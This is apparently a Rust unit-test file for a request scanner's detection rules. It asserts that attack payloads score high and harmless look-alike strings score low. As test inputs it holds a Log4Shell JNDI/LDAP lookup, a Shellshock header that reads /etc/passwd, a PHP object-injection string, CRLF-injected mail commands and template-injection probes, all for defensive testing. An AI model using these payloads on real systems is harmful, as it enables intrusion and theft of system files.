//! Literal and structural signals: payloads that score, look-alikes that do not.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::*;
use crate::verdict::Class;

fn scan(v: &str, f: Field) -> Hits {
    let r = Rules::build().unwrap();
    let mut h = Hits::default();
    r.scan(v.as_bytes(), f, &mut h);
    h
}

#[test]
fn rules_log4j_nested_lookups_resolve() {
    let h = scan("${${lower:j}${::-n}di:ldap://x/a}", Field::Value);
    assert!(h.score(Class::Java) >= 9);
}

#[test]
fn rules_php_object_injection_detected() {
    let h = scan("o:8:\"stdclass\":1:{s:1:\"a\";i:2;}", Field::Value);
    assert!(h.score(Class::Php) >= 5);
}

#[test]
fn rules_shellshock_detected() {
    assert!(scan("() { :; }; /bin/cat /etc/passwd", Field::Header).score(Class::Shellshock) >= 9);
}

#[test]
fn rules_mail_command_after_crlf_detected() {
    assert!(scan("x\r\nmail from:<a@b.c>", Field::Value).score(Class::Cmdi) >= 5);
    assert!(scan("x\r\na001 authenticate plain", Field::Value).score(Class::Cmdi) >= 5);
}

#[test]
fn rules_mail_words_in_multiline_text_allowed() {
    let t = "dear team,\nlist of items below\nmail from the office is late";
    assert!(scan(t, Field::Value).score(Class::Cmdi) < 5);
}

#[test]
fn rules_template_block_with_control_flow_detected() {
    assert!(scan("{% if true %}49{% endif %}", Field::Value).score(Class::Generic) >= 5);
    assert!(scan("50% off {% discount %}", Field::Value).score(Class::Generic) < 5);
}

#[test]
fn rules_node_serialised_function_detected() {
    assert!(scan("_$$nd_func$$_function(){}", Field::Value).score(Class::Generic) >= 5);
    assert!(scan("the process is nd func", Field::Value).score(Class::Generic) < 5);
}

#[test]
fn rules_gadget_class_names_detected() {
    assert!(scan("runtime.invokertransformer", Field::Value).score(Class::Java) >= 5);
    assert!(scan("the transformer invoker pattern", Field::Value).score(Class::Java) < 5);
}

#[test]
fn rules_php_call_as_last_path_segment_detected() {
    assert!(scan("/get/substr()", Field::Path).score(Class::Php) >= 5);
}

#[test]
fn rules_odata_style_path_keys_are_not_php_calls() {
    assert!(scan("/odata/products(1)/orders('x')", Field::Path).score(Class::Php) < 5);
}

#[test]
fn rules_method_calls_are_not_php_builtins() {
    assert!(scan("cursor.execute(\"x\")", Field::Value).score(Class::Php) < 5);
}
